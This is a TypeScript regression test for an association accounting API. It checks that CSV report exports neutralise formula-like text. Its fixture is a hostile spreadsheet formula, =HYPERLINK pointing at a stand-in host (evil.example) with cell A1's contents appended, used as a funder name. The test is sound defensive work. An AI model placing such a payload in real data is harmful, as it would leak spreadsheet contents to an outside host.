/**
 * Every CSV the project writes goes through one cell writer (`@asso/core/csv`): text that starts
 * like a formula is neutralised, figures stay numbers. Read back as a spreadsheet would read it.
 */
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestStack, type TestStack } from "./support/stack.js";

let stack: TestStack;
beforeAll(async () => {
  stack = await startTestStack();
});
afterAll(() => stack.close());

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquer")';
const FIGURE = /^-?\d+(?:,\d+)?$/;

describe("figures.csv", () => {
  it("bug: a funder named =HYPERLINK(…) reached the délégation's spreadsheet as a formula", async () => {
    const f = await stack.call("POST", "/v1/funders", { body: { name: HOSTILE, kind: "foundation" } });
    expect(f.status).toBe(201);
    const funderId = ((await f.json()) as { id: string }).id;
    const g = await stack.call("POST", "/v1/grants", {
      body: {
        funderId,
        title: "Projet",
        agreementDate: "2026-02-01",
        amount: 500_000,
        restricted: false,
        startDate: "2026-02-01",
        endDate: "2026-11-30",
        installments: [{ dueDate: "2026-03-01", amount: 500_000 }],
      },
    });
    expect(g.status).toBe(201);
    // A loss, so that figures below zero are in the file too.
    const charge = await stack.call("POST", "/v1/ledger/entries", {
      body: {
        journal: "HA",
        date: "2026-04-01",
        label: "+33 honoraires",
        pieceRef: "F-1",
        lines: [
          { account: "6226", debit: 900_000 },
          { account: "512", credit: 900_000 },
        ],
      },
    });
    expect(charge.status).toBe(201);

    const res = await stack.call("GET", "/v1/reports/2026/figures.csv", { role: "delegation" });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { delimiter: ";", bom: true }) as string[][];
    const cells = rows.flat();
    // Text is never a formula; the only cells starting with "-" are negative figures.
    for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `cell ${JSON.stringify(cell)}`).toMatch(FIGURE);
    expect(cells).toContain(`'${HOSTILE} — accordé`);
    expect(cells).toContain(`'${HOSTILE}`);
    expect(rows.find((r) => r[1] === "Résultat")?.[3]).toBe("-4000,00");
  });
});
